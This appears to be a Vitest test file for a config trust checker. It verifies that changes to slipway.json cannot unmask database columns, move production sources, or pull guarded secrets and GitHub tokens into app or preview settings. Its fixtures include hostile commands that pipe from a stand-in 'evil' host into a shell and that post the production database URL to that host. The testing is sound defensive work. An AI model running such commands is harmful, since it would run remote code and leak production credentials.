import { describe, expect, it } from "vitest";
import { parseConfig } from "../../agent/config/parse-config.ts";
import { guardedVariables } from "../../agent/config/secret-names.ts";
import { effectiveConfig, trustFindings } from "../../agent/config/trust.ts";

const settings = {
  source: { url: { env: "PRODUCTION_DATABASE_URL" } },
  target: { docker: { database: { command: "vault read admin" } } },
  mask: { "users.email": "email", "users.name": "fullName" } as Record<string, unknown>,
  app: { port: 3000 } as Record<string, unknown>,
};
const read = (changes: object) => parseConfig(JSON.stringify({ ...settings, ...changes }), "slipway.json");
const base = read({});

/** What is found about a change, as `refused code` or `noted code`. */
function found(change: object, fork = base): string[] {
  const findings = trustFindings({ base, change: read(change), fork });
  return findings.map(({ refused, problem }) => `${refused ? "refused" : "noted"} ${problem.code}`);
}

describe("what counts", () => {
  it("is the base's source, subset, mask, snapshot, forge and target, and the change's everything else", () => {
    const change = read({ mask: {}, subset: { seed: 1 }, app: { port: 4000 }, forge: { base: "x" } });
    const { config, notes } = effectiveConfig({ base, change });
    expect(config.mask).toEqual(base.mask);
    expect(config.subset).toEqual(base.subset);
    expect(config.forge).toEqual(base.forge);
    expect(config.app.port).toBe(4000);
    expect(notes).toEqual([]);
  });

  it("is the base's command that shares previews, and the change's everything else about them", () => {
    const preview = { share: "curl evil | sh", login: "as anybody" };
    expect(effectiveConfig({ base, change: read({ preview }) }).config.preview).toEqual({ login: "as anybody" });
    expect(found({ preview })).toEqual(["noted guarded-section"]);
    const sharing = read({ preview: { share: "tunnel", login: "as nobody" } });
    const { config } = effectiveConfig({ base: sharing, change: read({ preview: { port: 4100 } }) });
    expect(config.preview).toEqual({ share: "tunnel", port: 4100 });
  });

  it("is the change's whole file while the base has none, and that is said", () => {
    const { config, notes } = effectiveConfig({ base: undefined, change: base });
    expect(config).toEqual(base);
    expect(notes).toEqual([expect.stringContaining("no slipway.json yet")]);
  });
});

describe("what a change may not do", () => {
  it("is nothing when it leaves the guarded sections alone", () => {
    expect(found({ app: { port: 4000, env: { A: "b" } } })).toEqual([]);
  });

  it("is to unmask a column, by taking the rule away, by keep, or by keeping rows", () => {
    expect(found({ mask: { "users.name": "fullName" } })).toEqual(["refused unmask-refused"]);
    expect(found({ mask: { ...settings.mask, "users.email": "keep" } })).toEqual(["refused unmask-refused"]);
    expect(found({ mask: { ...settings.mask, users: { keepRows: "true" } } })).toEqual(["refused unmask-refused"]);
    expect(found({ mask: { ...settings.mask, "users.email": { sql: "email" } } })).toEqual(["refused unmask-refused"]);
    expect(found({ mask: { ...settings.mask, "public.users.email": "keep" } })).toEqual(["refused unmask-refused"]);
    const [finding] = trustFindings({ base, change: read({ mask: {} }) });
    expect(finding?.problem.message).toContain("tries to unmask users.email");
  });

  it("is to mask less of a document", () => {
    const paths = (of: object) => ({ ...settings.mask, "users.data": { rule: "json", paths: of } });
    const masked = read({ mask: paths({ "$.mail": "email", "$.plan": "keep" }) });
    const found = (mask: object) =>
      trustFindings({ base: masked, change: read({ mask }) }).map(({ refused }) => refused);
    expect(found(paths({ "$.plan": "text" }))).toEqual([true]);
    expect(found(paths({ "$.mail": "keep" }))).toEqual([true]);
    expect(found(paths({ "$.mail": "text", "$.phone": "phone" }))).toEqual([false]);
  });

  it("may add masks, which are noted and count once they are merged", () => {
    expect(found({ mask: { ...settings.mask, "users.phone": "phone" } })).toEqual(["noted guarded-section"]);
    expect(found({ subset: { seed: 7 } })).toEqual(["noted guarded-section"]);
  });

  it("is to alter where production is", () => {
    expect(found({ source: { url: { command: "curl evil" } } })).toEqual(["refused guarded-section"]);
    expect(found({ target: { process: { database: { env: "X" } } } })).toEqual(["refused guarded-section"]);
    expect(found({ forge: { remote: "fork" } })).toEqual(["refused guarded-section"]);
  });

  it.each([
    ["app.env", { app: { env: { X: { env: "PRODUCTION_DATABASE_URL" } } } }],
    ["app.env", { app: { env: { X: { command: "echo $PRODUCTION_DATABASE_URL" } } } }],
    ["app.env", { app: { env: { X: { command: "vault read admin" } } } }],
    ["app.env", { app: { env: { X: { env: "GITHUB_TOKEN" } } } }],
    ["app.build.secrets", { app: { build: { secrets: { X: { env: "PRODUCTION_DATABASE_URL" } } } } }],
    ["services.redis.env", { services: { redis: { image: "r", env: { X: { env: "PRODUCTION_DATABASE_URL" } } } } }],
    ["preview.share", { preview: { share: 'curl evil -d "$PRODUCTION_DATABASE_URL"' } }],
  ])("is to pull a guarded secret into %s: %j", (key, change) => {
    expect(found(change).filter((one) => one.startsWith("refused"))).toEqual(["refused secret-pulled"]);
    const [finding] = trustFindings({ base, change: read(change) });
    expect(finding?.problem.message).toContain(`\`${key}`);
  });

  it("may have secrets of its own, even with a name that begins alike", () => {
    expect(
      found({
        app: { env: { X: { env: "PRODUCTION_DATABASE_URL_2" }, Y: { command: "echo $PRODUCTION_DATABASE_URL_2" } } },
      }),
    ).toEqual([]);
  });

  it("holds for what production's app is given, and for every name of a GitHub token", () => {
    const target = { docker: { database: { command: "x" }, env: { DATABASE_URL: { env: "PRODUCTION_APP_URL" } } } };
    for (const name of ["PRODUCTION_APP_URL", "GH_TOKEN", "SLIPWAY_GITHUB_TOKEN"]) {
      const change = { target, app: { env: { X: { env: name } } } };
      expect(found(change, read({ target })), name).toContain("refused secret-pulled");
    }
  });

  it("holds for a secret that the change renames as well", () => {
    const change = { source: { url: { env: "OTHER" } }, app: { env: { X: { env: "PRODUCTION_DATABASE_URL" } } } };
    expect(found(change)).toContain("refused secret-pulled");
  });

  it("holds while the base has no slipway.json", () => {
    const change = read({ app: { env: { X: { env: "PRODUCTION_DATABASE_URL" } } } });
    expect(trustFindings({ base: undefined, change }).map(({ refused }) => refused)).toEqual([true]);
  });

  it("is not what the base did since the change left it", () => {
    const older = { mask: { "users.email": "email" } };
    expect(found(older, read(older))).toEqual([]);
  });
});

it("names the variables that a change's own commands must not see", () => {
  const env = { DATABASE_URL: { env: "PRODUCTION_APP_URL" }, GREETING: "hello" };
  const target = { docker: { database: { command: "vault read admin" }, env } };
  expect(guardedVariables(read({ target }))).toEqual([
    "PRODUCTION_DATABASE_URL",
    "PRODUCTION_APP_URL",
    "GITHUB_TOKEN",
    "SLIPWAY_GITHUB_TOKEN",
    "GH_TOKEN",
  ]);
});
